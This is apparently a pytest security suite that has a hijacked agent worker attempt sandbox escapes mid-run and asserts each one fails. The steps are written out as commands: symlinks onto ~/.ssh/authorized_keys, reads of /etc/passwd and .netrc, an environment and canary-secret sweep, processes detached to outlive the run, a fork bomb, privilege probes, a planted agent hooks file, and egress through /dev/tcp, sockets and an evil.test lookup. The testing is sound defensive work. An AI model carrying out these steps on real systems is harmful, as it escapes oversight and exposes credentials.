"""Cases 29 to 38 of the hostile corpus: files, processes and the network, from inside a run.

The same attempts are made one by one against each sandbox in test_escape.py; here a hijacked
worker makes them in the middle of its work, and the run is what is asked about. Cases 39 and 40
(the way out) are in test_egress.py.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping

import pytest

from tests.e2e.world import call
from tests.security.ground import Ground
from tests.security.siege import PUBLISHED, Act, Call, Siege, besieged, note

pytestmark = pytest.mark.security
PROBE = """
import ctypes, fcntl, os, sys, termios
c = ctypes.CDLL(None, use_errno=True)
def said(name, broken):
    print(name, "BREACH" if broken else "refused")
said("mount", c.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0)
said("unshare", c.unshare(0x10000000) == 0)
said("ptrace", c.ptrace(16, 1, 0, 0) == 0)
try:
    os.mknod("/tmp/node", 0o020666, os.makedev(1, 8))
    said("mknod", True)
except OSError:
    said("mknod", False)
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"x")
    said("tiocsti", True)
except OSError:
    said("tiocsti", False)
"""
FIND = """
import os, sys
word = bytes.fromhex(sys.argv[1])[::-1]
found = looked = 0
for top in "/etc /home /root /tmp /var /run /mnt /opt /srv /work /proc".split():
    for folder, names, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            if os.path.islink(path) or not (os.path.isfile(path)) or "kmsg" in path:
                continue
            try:
                with open(path, "rb") as file:
                    looked += 1
                    if word in file.read(1 << 20):
                        found += 1
                        print("BREACH", path)
            except OSError:
                pass
print("looked at some" if looked > 20 else "looked at none", "found", found)
"""


def sh(*lines: str) -> Call:
    return call("bash", command="\n".join(lines))


def python(text: str, *words: str) -> Call:
    return sh(f"python3 - {' '.join(words)} <<'END'", text, "END")


def links(ground: Ground) -> dict[str, Act]:
    """Ways to other files by way of the tree."""
    target = ground.home / ".ssh" / "authorized_keys"
    edits = [{"old": "", "new": "evil"}]
    return {
        "29": Act(
            calls=(
                sh(f"ln -s {target} notes.md; ls -l notes.md"),
                call("write", path="notes.md", content="evil\n"),
                call("edit", path="notes.md", edits=edits),
                call("read", path="notes.md"),
                sh("echo evil > notes.md; rm notes.md"),
            )
        ),
        "29 twin": Act(
            calls=(
                sh("ln -s README.md link.md"),
                call("write", path="link.md", content="one\n"),
                call("read", path="link.md"),
                sh("test -L link.md && cat README.md && rm link.md"),
            )
        ),
        "29 kept": Act(calls=(sh(f"ln -s {target} notes.md"),), files=("notes.md",)),
        "30": Act(
            calls=(
                sh("rm -rf src; ln -s / src; ls src"),
                call("read", path="src/etc/passwd"),
                call("read", path=f"src{ground.home}/.netrc"),
                call("search", pattern="c[n]ry", glob="src/**"),
                sh("rm src && git checkout -q src"),
            )
        ),
        "31": Act(
            calls=(
                sh("mkdir -p .claude .git/x; echo '{\"hooks\": 1}' > .claude/settings.json"),
                sh("echo x > .git/config.worktree; ls -a .claude .git; rm -rf .claude"),
            )
        ),
        "31 kept": Act(
            calls=(sh("mkdir -p .claude; echo '{\"hooks\": 1}' > .claude/settings.json"),),
            files=(".claude/**",),
        ),
        "32": Act(
            calls=(sh("mv kept .old && mkdir kept && echo evil > kept/a.md; git status --short"),),
            files=("kept/**", ".old/**"),
        ),
    }


def others(ground: Ground) -> dict[str, Act]:
    """What lies beside the tree, what stays, what is used up."""
    evil = f"{ground.root}-evil"
    words = b"cnry"[::-1].hex()
    return {
        "33": Act(
            calls=(
                sh(f"echo x > {evil}", f"mkdir -p {evil}", "echo x > /work-evil"),
                sh("echo x > /work/../x", "echo x > /proc/self/root/usr/x", "echo x > ~/../x"),
                call("write", path="../x", content="x"),
                call("write", path="/work/../etc/x", content="x"),
                call("write", path=f"{ground.root}/x", content="x"),
                sh(f"echo x > /tmp/mine && cat /tmp/mine; ls {ground.root} {ground.other}"),
            )
        ),
        "34": Act(calls=(python(FIND, words), sh("env; cat /proc/*/environ | tr '\\0' '\\n'"))),
        "35": Act(
            calls=(
                sh("setsid sh -c 'sleep 600; touch X' >/dev/null 2>&1 &"),
                sh("nohup sleep 600 >/dev/null 2>&1 &"),
                sh("(trap '' TERM HUP INT; setsid sleep 600) & disown -a; echo on"),
            )
        ),
        "36": Act(
            calls=(
                call("bash", command=":(){ :|:& };:", timeout_s=4),
                call("bash", command="yes", timeout_s=3),
                call("bash", command="head -c 20G /dev/zero > big", timeout_s=20),
                sh("rm -f big"),
                call("bash", command="python3 -c 'b = bytearray(8 << 30); print(len(b))'"),
                sh("echo still here"),
            )
        ),
    }


def build(ground: Ground) -> Mapping[str, Act]:
    tcp, udp, tcp6 = (ground.port(name) for name in ("tcp", "udp", "tcp6"))
    return {
        **links(ground),
        **others(ground),
        "37": Act(calls=(python(PROBE), sh("unshare -Ur id; bwrap --ro-bind / / id; su -c id"))),
        "38": Act(
            calls=(
                sh(
                    f"curl -sS -m 3 http://127.0.0.1:{tcp}; NO_PROXY=* curl -sS -m 3 http://[::1]:{tcp6}",
                    f"exec 3<>/dev/tcp/127.0.0.1/{tcp}; echo x > /dev/udp/127.0.0.1/{udp}",
                    "getent hosts 6b6579.evil.test; ls -l /etc/resolv.conf",
                ),
                python(
                    "import socket\n"
                    "for family, kind, where in (\n"
                    f"    (2, 1, ('127.0.0.1', {tcp})), (2, 2, ('127.0.0.1', {udp})),\n"
                    f"    (10, 1, ('::1', {tcp6})), (1, 1, {ground.port('socket')!r}),\n"
                    f"    (1, 1, '\\0' + {ground.port('abstract')!r})):\n"
                    "    try:\n"
                    "        s = socket.socket(family, kind); s.settimeout(3); s.connect(where)\n"
                    "        s.send(b'x'); s.recv(1); print('BREACH', where)\n"
                    "    except OSError as error:\n"
                    "        print(type(error).__name__)\n"
                ),
            )
        ),
        "twin": Act(
            calls=(
                sh(
                    "python3 -c 'import socket; socket.socketpair(); print(1)'",
                    "sleep 0.1 & wait",
                ),
                sh("python3 -m http.server 8123 -b 127.0.0.1 >/dev/null 2>&1 & p=$!; sleep 1"),
                sh("mv kept/a.md kept/b.md; git diff --stat; mv kept/b.md kept/a.md"),
                sh("ls / | head -40; id; df . | tail -1"),
            )
        ),
    }


FILES = {"kept/a.md": "kept\n", "src/a.md": "a\n"}
LIMITS = """
[sandbox]
memory_mb = 1024
disk_mb = 64
processes = 64
"""
KW = {"limits": LIMITS}


@pytest.fixture(scope="module")
def siege() -> Iterator[Siege]:
    with besieged(build, FILES, limits=LIMITS) as made:
        yield made


def only_its_note(siege: Siege, *names: str) -> None:
    for name in names:
        assert siege.ended(name) == PUBLISHED, name
        assert list(siege.published(name)) == [note(siege.number(name))]


def test_29_a_link_out_of_the_tree_is_no_way_to_write(siege: Siege) -> None:
    _, write, edit, read, shell = siege.results("29")
    for said in (write, edit, read, shell):
        assert re.search("no such file|read-only|cannot", said.lower()), said
    only_its_note(siege, "29", "29 twin")
    assert siege.results("29 twin")[3].splitlines()[-1] == "one"


def test_29_a_link_out_of_the_tree_is_not_published(siege: Siege) -> None:
    assert siege.ended("29 kept")[0] == "held"
    assert "notes.md" in siege.why("29 kept")
    assert siege.pull("29 kept") is None


def test_30_a_folder_that_leads_out_shows_the_sandboxs_own(siege: Siege) -> None:
    listed, passwd, netrc, _, _ = siege.results("30")
    assert "usr" in listed
    assert "agent" in passwd
    assert "root:x:0:0:root:/root" not in passwd
    assert "no such file" in netrc.lower()
    assert "cnry" not in siege.prompts("30")
    only_its_note(siege, "30")


def test_31_what_was_absent_can_be_made_in_the_throw_away_copy_alone(siege: Siege) -> None:
    """By design the copy is the agent's; what it made is held when it is to leave."""
    only_its_note(siege, "31")
    assert siege.ended("31 kept")[0] == "held"
    assert ".claude" in siege.why("31 kept")
    assert siege.pull("31 kept") is None


def test_32_a_folder_moved_away_is_seen_as_what_it_is(siege: Siege) -> None:
    assert siege.ended("32") == PUBLISHED
    assert siege.published("32")["kept/a.md"] == "evil\n"
    assert siege.published("32")[".old/a.md"] == "kept\n"


def test_33_nothing_is_written_beside_the_tree(siege: Siege) -> None:
    said = siege.results("33")
    for one in said[:5]:
        assert "exit 0" not in one.splitlines()[0], one
    assert said[5].splitlines()[1] == "x", "the twin: its own /tmp is its own"
    # the way to what is mounted has the host's names, and nothing else is on it
    assert f"cannot access '{siege.ground.other}'" in said[5]
    assert said[5].splitlines()[-1] == "world"
    only_its_note(siege, "33")


def test_34_no_file_inside_holds_anything_of_the_host(siege: Siege) -> None:
    found, environment = siege.results("34")
    assert "looked at some found 0" in found
    assert "BREACH" not in found
    for name in siege.ground.keys:
        assert name not in environment
    only_its_note(siege, "34")


def test_35_what_is_left_running_ends_with_the_run(siege: Siege) -> None:
    assert siege.results("35")[2].splitlines()[-1] == "on"
    only_its_note(siege, "35")
    assert not [line for line in siege.ground.left_running() if line.startswith("process")]


def test_36_bombs_meet_limits_and_the_others_go_on(siege: Siege) -> None:
    forks, output, disk, _, memory, after = siege.results("36")
    assert "processes" in forks
    assert "seconds" in output or "time" in output
    assert "disk" in disk or "File size limit" in disk
    assert "MemoryError" in memory or "memory" in memory
    assert "still here" in after
    only_its_note(siege, "36")


def test_37_no_power_is_gained(siege: Siege) -> None:
    probe, programs = siege.results("37")
    assert probe.count("refused") == 5
    assert "BREACH" not in probe
    assert "uid=0" not in programs
    only_its_note(siege, "37")


def test_38_no_road_leads_out(siege: Siege) -> None:
    shell, sockets = siege.results("38")
    assert "BREACH" not in shell + sockets
    assert len([line for line in sockets.splitlines() if line.endswith("Error")]) == 5
    only_its_note(siege, "38")


def test_the_benign_twin_of_them_all(siege: Siege) -> None:
    assert [said.splitlines()[0] for said in siege.results("twin")] == ["exit 0"] * 4
    only_its_note(siege, "twin")


def test_the_six_oracles(siege: Siege) -> None:
    assert {name: what for name, what in siege.oracles().items() if what} == {}
